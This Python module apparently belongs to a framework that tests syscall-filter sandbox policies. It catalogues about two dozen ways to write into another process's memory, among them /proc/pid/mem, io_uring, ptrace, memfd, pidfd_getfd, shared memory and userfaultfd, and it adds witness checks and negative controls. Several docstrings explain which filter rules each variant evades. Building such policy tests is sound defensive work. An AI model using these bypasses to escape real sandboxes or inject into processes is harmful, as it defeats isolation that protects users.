"""Write to the memory of another process of the same user: a page that it alone has mapped."""

from attacks import deputy, neighbour, witness
from attacks.consts import (
    MAP_SHARED,
    NULL,
    O_CLOEXEC,
    O_DIRECTORY,
    O_PATH,
    O_RDONLY,
    O_RDWR,
    O_WRONLY,
    PROT_READ,
    PROT_WRITE,
    PTRACE_DETACH,
    PTRACE_INTERRUPT,
    PTRACE_POKETEXT,
    PTRACE_SEIZE,
    WALL,
    Named,
)
from attacks.effects import Effect, EffectKind, Object, ObjectKind
from attacks.family import Assumption, Family, Need, Technique
from attacks.kernel import Kernel
from attacks.neighbour import MESSAGE, PAGE, PLACE, SEEK_SET
from attacks.recorder import Buffer, Recorder, Result
from attacks.ring import Ring

PTRACE_POKEDATA = Named(5, "PTRACE_POKEDATA")
IOCB_CMD_PWRITE = Named(1, "IOCB_CMD_PWRITE")
UFFD_USER_MODE_ONLY = Named(1, "UFFD_USER_MODE_ONLY")
UFFD_API = 0xAA
UFFDIO_API = Named(0xC018AA3F, "UFFDIO_API")
UFFDIO_REGISTER = Named(0xC020AA00, "UFFDIO_REGISTER")
UFFDIO_REGISTER_MODE_MISSING = Named(1, "UFFDIO_REGISTER_MODE_MISSING")
UFFDIO_COPY = Named(0xC028AA03, "UFFDIO_COPY")
IPC_CREAT = Named(0o1000, "IPC_CREAT")
SHMAT = Named(21, "SHMAT")
IPC_PRIVATE = Named(0, "IPC_PRIVATE")
IPC_RMID = Named(0, "IPC_RMID")
INHERITED = Assumption.INHERITED_DESCRIPTOR
WORD = 8
SIZE = WORD * (-(-len(MESSAGE) // WORD))
MAPPED = Object(ObjectKind.FILE, "mapped", 0o600, bytes(64))

FAMILY = Family(
    "write-process-memory",
    title="Write another process's memory",
    effect=lambda _: Effect(EffectKind.WITNESSED),
    has_target=False,
    group="processes",
    attack_technique="T1055.009",
)


@FAMILY.witness
def the_page_has_changed(w: Kernel) -> None:
    found = w.buffer(len(MESSAGE), name="found")
    memory = w.open(w.proc_pid(witness.victim(w), "/mem"), O_RDONLY | O_CLOEXEC)
    w.pread64(memory, found, found.size, PLACE)
    witness.same(w, found, w.data(MESSAGE, name="wanted"), found.size)


# Calls made for it


@FAMILY.variant(Technique.BASELINE)
def process_vm_writev(k: Kernel) -> None:
    """The call that the author of the policy has in mind."""
    neighbour.map_place(k)
    local, remote = _local(k), neighbour.iovec(k, PLACE, SIZE)
    k.process_vm_writev(neighbour.pid(k), local, 1, remote, 1, 0).decisive()


@FAMILY.variant(Technique.COMPAT_ABI)
def process_vm_writev_i386(k: Kernel) -> None:
    """The 32-bit table has another number and takes smaller vectors."""
    neighbour.map_place(k)
    local = neighbour.iovec32(k, _message(k), SIZE)
    remote = neighbour.iovec32(k, PLACE, SIZE)
    k.i386.process_vm_writev(neighbour.pid(k), local, 1, remote, 1, 0).decisive()


# The memory as a file


@FAMILY.variant(Technique.PROC_INTERFACE)
def proc_mem_pwrite(k: Kernel) -> None:
    """A file of procfs is the memory; only open and pwrite64 are called."""
    neighbour.map_place(k)
    memory = neighbour.memory(k, O_WRONLY)
    k.pwrite64(memory, _message(k), SIZE, PLACE).decisive()


@FAMILY.variant(Technique.PROC_INTERFACE)
def proc_mem_write(k: Kernel) -> None:
    """Lseek puts the address where no argument of write shows it."""
    neighbour.map_place(k)
    memory = neighbour.memory(k, O_RDWR)
    k.lseek(memory, PLACE, SEEK_SET)
    k.write(memory, _message(k), SIZE).decisive()


@FAMILY.variant(Technique.PROC_INTERFACE)
def proc_mem_writev(k: Kernel) -> None:
    """The vector form of write."""
    neighbour.map_place(k)
    memory = neighbour.memory(k, O_RDWR)
    k.lseek(memory, PLACE, SEEK_SET)
    k.writev(memory, _local(k), 1).decisive()


@FAMILY.variant(Technique.PROC_INTERFACE)
def proc_mem_pwritev(k: Kernel) -> None:
    """The vector form of pwrite64."""
    neighbour.map_place(k)
    memory = neighbour.memory(k, O_RDWR)
    k.pwritev(memory, _local(k), 1, PLACE).decisive()


@FAMILY.variant(Technique.PROC_INTERFACE)
def proc_mem_pwritev2(k: Kernel) -> None:
    """The newest call of the write family."""
    neighbour.map_place(k)
    memory = neighbour.memory(k, O_RDWR)
    k.pwritev2(memory, _local(k), 1, PLACE, 0, 0).decisive()


@FAMILY.variant(Technique.PROC_INTERFACE)
def proc_mem_read_only_page(k: Kernel) -> None:
    """The file ignores the protection: a page that not even its owner may write is changed."""
    place = neighbour.map_place(k)
    k.victim.mprotect(place, PAGE, PROT_READ)
    memory = neighbour.memory(k, O_RDWR)
    k.pwrite64(memory, _message(k), SIZE, PLACE).decisive()


@FAMILY.variant(Technique.PROC_INTERFACE)
def proc_task_mem(k: Kernel) -> None:
    """Each thread's directory has the file again, under a path that ends the same way only."""
    neighbour.map_place(k)
    memory = k.open(neighbour.task_path(k, "mem"), O_RDWR)
    k.pwrite64(memory, _message(k), SIZE, PLACE).decisive()


@FAMILY.variant(Technique.FD_RELATIVE)
def proc_mem_dirfd(k: Kernel) -> None:
    """Opened relative to the victim's directory, the file's path is no more than "mem"."""
    neighbour.map_place(k)
    directory = k.open(neighbour.path(k, ""), O_PATH | O_DIRECTORY)
    memory = k.openat(directory, k.text("mem"), O_RDWR)
    k.pwrite64(memory, _message(k), SIZE, PLACE).decisive()


@FAMILY.variant(Technique.COMPAT_ABI)
def proc_mem_pwrite_i386(k: Kernel) -> None:
    """The 32-bit table splits the offset, so rules on the arguments do not fit either."""
    neighbour.map_place(k)
    memory = neighbour.memory(k.i386, O_RDWR)
    k.i386.raw("pwrite64", memory, _message(k), SIZE, PLACE, 0).decisive()


@FAMILY.variant(Technique.DESCRIPTOR_REUSE, assumption=INHERITED)
def inherited_memory(k: Kernel) -> None:
    """The file was opened before the filter, and writing it looks like writing any other."""
    neighbour.map_place(k)
    memory = neighbour.inherited_memory(k, O_RDWR)
    k.pwrite64(memory, _message(k), SIZE, PLACE).decisive()


# Through a ring


@FAMILY.variant(Technique.ASYNC_KERNEL)
def io_uring_write(k: Kernel) -> None:
    """A ring writes the file, though asynchronous writes by io_submit are refused there."""
    neighbour.map_place(k)
    memory = neighbour.memory(k, O_RDWR)
    _ring_write(k, k.ring(), memory)


@FAMILY.variant(Technique.ASYNC_KERNEL)
def io_uring_open_write(k: Kernel) -> None:
    """One ring opens the file, another writes it: open and write are not called."""
    neighbour.map_place(k)
    memory = neighbour.memory_by_ring(k, k.ring(), O_RDWR)
    _ring_write(k, k.ring(), memory)


@FAMILY.variant(Technique.DESCRIPTOR_REUSE, assumption=INHERITED)
def io_uring_inherited_memory(k: Kernel) -> None:
    """With the file from before the filter, a new ring writes it: no call of the write family."""
    neighbour.map_place(k)
    memory = neighbour.inherited_memory(k, O_RDWR)
    _ring_write(k, k.ring(), memory)


@FAMILY.variant(
    Technique.DESCRIPTOR_REUSE, assumption=Assumption.INHERITED_RING, needs=(Need.SQPOLL,)
)
def io_uring_inherited_sqpoll_write(k: Kernel) -> None:
    """With a ring and the file from before the filter, the attack makes no call at all."""
    neighbour.map_place(k)
    memory = neighbour.inherited_memory(k, O_RDWR)
    ring = k.setup.ring(sqpoll=True)
    ring.nop()
    _ring_write(k, ring.by(k).stores_only(), memory)


@FAMILY.variant(Technique.DEPUTY_PROCESS, assumption=Assumption.UNFILTERED_NEIGHBOUR)
def stolen_ring_registered_buffer(k: Kernel) -> None:
    """The victim registered its memory with a ring: who has the ring can read a pipe into it."""
    place = neighbour.map_place(k)
    ring = neighbour.stolen_ring_with_buffer(k, place)
    reader, writer = neighbour.pipe(k)
    k.write(writer, _message(k), SIZE)
    ring.submit("READ_FIXED", fd=reader, addr=PLACE, length=SIZE).decisive()


# As a debugger


@FAMILY.variant(Technique.MULTIPLEXER)
def ptrace_poke(k: Kernel) -> None:
    """A debugger writes a word at a time, by one request of many of a call."""
    neighbour.map_place(k)
    neighbour.stop_by_ptrace(k)
    _poke(k, k, PTRACE_POKEDATA, WORD)


@FAMILY.variant(Technique.MULTIPLEXER)
def ptrace_seize_poke_text(k: Kernel) -> None:
    """Other requests for the same: rules that list PTRACE_ATTACH and PTRACE_POKEDATA miss it."""
    neighbour.map_place(k)
    k.ptrace(PTRACE_SEIZE, neighbour.pid(k), NULL, NULL)
    k.ptrace(PTRACE_INTERRUPT, neighbour.pid(k), NULL, NULL)
    k.wait4(neighbour.pid(k), NULL, WALL, NULL)
    _poke(k, k, PTRACE_POKETEXT, WORD)


@FAMILY.variant(Technique.COMPAT_ABI)
def ptrace_poke_i386(k: Kernel) -> None:
    """The 32-bit table has another number, and half as much in a word."""
    neighbour.map_place(k)
    neighbour.stop_by_ptrace(k.i386)
    _poke(k, k.i386, PTRACE_POKEDATA, WORD // 2)


# What the victim has mapped, reached from its other side


@FAMILY.variant(Technique.PROC_INTERFACE)
def proc_fd_memfd_write(k: Kernel) -> None:
    """A memfd that the victim has mapped is opened through its descriptors in procfs."""
    _map_memfd(k)
    k.pwrite64(_open_memfd(k), _message(k), SIZE, 0).decisive()


@FAMILY.variant(Technique.MEMORY_ALIAS)
def proc_fd_memfd_store(k: Kernel) -> None:
    """The memfd is mapped here too: then a plain store writes the victim's memory."""
    _map_memfd(k)
    prot = PROT_READ | PROT_WRITE
    alias = k.mmap(NULL, PAGE, prot, MAP_SHARED, _open_memfd(k), 0)
    k.copy(alias, _message(k), SIZE).decisive()


@FAMILY.variant(Technique.NEWER_SYSCALL)
def pidfd_getfd_memfd(k: Kernel) -> None:
    """The memfd's descriptor is fetched from the victim by pidfd_getfd."""
    _map_memfd(k)
    pidfd = k.pidfd_open(neighbour.pid(k), 0)
    memfd = k.pidfd_getfd(pidfd, deputy.STOLEN_FD, 0)
    k.pwrite64(memfd, _message(k), SIZE, 0).decisive()


@FAMILY.variant(Technique.INDIRECT_OBJECT, objects=(MAPPED,))
def mapped_file(k: Kernel) -> None:
    """Nobody names the victim: a file that it has mapped is written, and so is its memory."""
    neighbour.map_place(k, MAP_SHARED, k.victim.open(k.text("mapped"), O_RDWR))
    k.pwrite64(k.open(k.text("mapped"), O_WRONLY), _message(k), SIZE, 0).decisive()


@FAMILY.variant(Technique.MEMORY_ALIAS)
def shared_memory_segment(k: Kernel) -> None:
    """A System V segment is attached by a number, and every process of the user may."""
    alias = k.shmat(_attach_segment(k), NULL, 0)
    k.copy(alias, _message(k), SIZE).decisive()


@FAMILY.variant(Technique.COMPAT_ABI)
def shared_memory_segment_ipc_i386(k: Kernel) -> None:
    """The 32-bit table has one call for all of System V IPC; where it attaches is in memory."""
    alias = k.buffer(4, name="alias")
    k.i386.ipc(SHMAT, _attach_segment(k), 0, alias, NULL, 0)
    k.copy(k.load(alias, 0, 4), _message(k), SIZE).decisive()


@FAMILY.variant(Technique.DESCRIPTOR_REUSE, assumption=INHERITED)
def inherited_userfaultfd(k: Kernel) -> None:
    """A userfaultfd fills the memory of whoever made it, so by an ioctl here the victim's."""
    place = neighbour.map_place(k)
    v = k.victim
    faults = v.userfaultfd(O_CLOEXEC | UFFD_USER_MODE_ONLY)
    v.ioctl(faults, UFFDIO_API, v.struct("QQQ", UFFD_API, 0, 0, name="api"))
    missing = v.struct("QQQQ", place, PAGE, UFFDIO_REGISTER_MODE_MISSING, 0, name="register")
    v.ioctl(faults, UFFDIO_REGISTER, missing)
    v.dup2(faults, deputy.STOLEN_FD)
    with neighbour.before_the_filter(k) as before:
        pidfd = before.pidfd_open(neighbour.pid(k), 0)
        inherited = before.pidfd_getfd(pidfd, deputy.STOLEN_FD, 0)
    page = k.recording.allocate(MESSAGE, PAGE, PAGE, "page")
    k.ioctl(inherited, UFFDIO_COPY, k.struct("QQQQQ", PLACE, page, PAGE, 0, 0)).decisive()


# Controls that must not write


@FAMILY.variant(Technique.ASYNC_KERNEL, negative=True)
def aio_write(k: Kernel) -> None:
    """The file does not take part in asynchronous writes by io_submit."""
    neighbour.map_place(k)
    memory = neighbour.memory(k, O_RDWR)
    neighbour.aio(k, IOCB_CMD_PWRITE, memory, _message(k), SIZE, PLACE).decisive().may_fail()


@FAMILY.variant(Technique.PROC_INTERFACE, negative=True)
def splice(k: Kernel) -> None:
    """A pipe cannot be spliced into the file."""
    neighbour.map_place(k)
    memory = neighbour.memory(k, O_RDWR)
    reader, writer = neighbour.pipe(k)
    k.write(writer, _message(k), SIZE)
    offset = k.struct("Q", PLACE, name="offset")
    k.splice(reader, NULL, memory, offset, SIZE, 0).decisive().may_fail()


@FAMILY.variant(Technique.SIBLING_SYSCALL, negative=True)
def process_vm_writev_read_only_page(k: Kernel) -> None:
    """Unlike the file, the call respects the protection of the victim's page."""
    place = neighbour.map_place(k)
    k.victim.mprotect(place, PAGE, PROT_READ)
    local, remote = _local(k), neighbour.iovec(k, PLACE, SIZE)
    k.process_vm_writev(neighbour.pid(k), local, 1, remote, 1, 0).decisive().may_fail()


def _message(k: Recorder) -> Buffer:
    return k.data(MESSAGE.ljust(SIZE, b"\0"), name="message")


def _local(k: Kernel) -> Buffer:
    return neighbour.iovec(k, _message(k), SIZE)


def _ring_write(k: Kernel, ring: Ring, memory: Result) -> None:
    ring.submit("WRITE", fd=memory, addr=_message(k), length=SIZE, off=PLACE).decisive()


def _poke(k: Kernel, by: Kernel, request: int, width: int) -> None:
    """Word for word; the last one completes the message and is decisive."""
    message = _message(k)
    for offset in range(0, SIZE, width):
        word = k.load(message, offset, width)
        poked = by.ptrace(request, neighbour.pid(k), PLACE + offset, word)
        if offset + width == SIZE:
            poked.decisive()
    by.ptrace(PTRACE_DETACH, neighbour.pid(k), NULL, NULL)


def _map_memfd(k: Kernel) -> None:
    memfd = k.victim.memfd_create(k.text("shared"), 0)
    k.victim.ftruncate(memfd, PAGE)
    k.victim.dup2(memfd, deputy.STOLEN_FD)
    neighbour.map_place(k, MAP_SHARED, memfd)


def _open_memfd(k: Kernel) -> Result:
    return k.open(neighbour.path(k, f"fd/{deputy.STOLEN_FD}"), O_RDWR)


def _attach_segment(k: Kernel) -> Result:
    """The segment goes away with the last process that has it, and can be attached until then."""
    segment = k.victim.shmget(IPC_PRIVATE, PAGE, IPC_CREAT | 0o600)
    k.victim.shmat(segment, PLACE, 0)
    k.victim.shmctl(segment, IPC_RMID, NULL)
    return segment
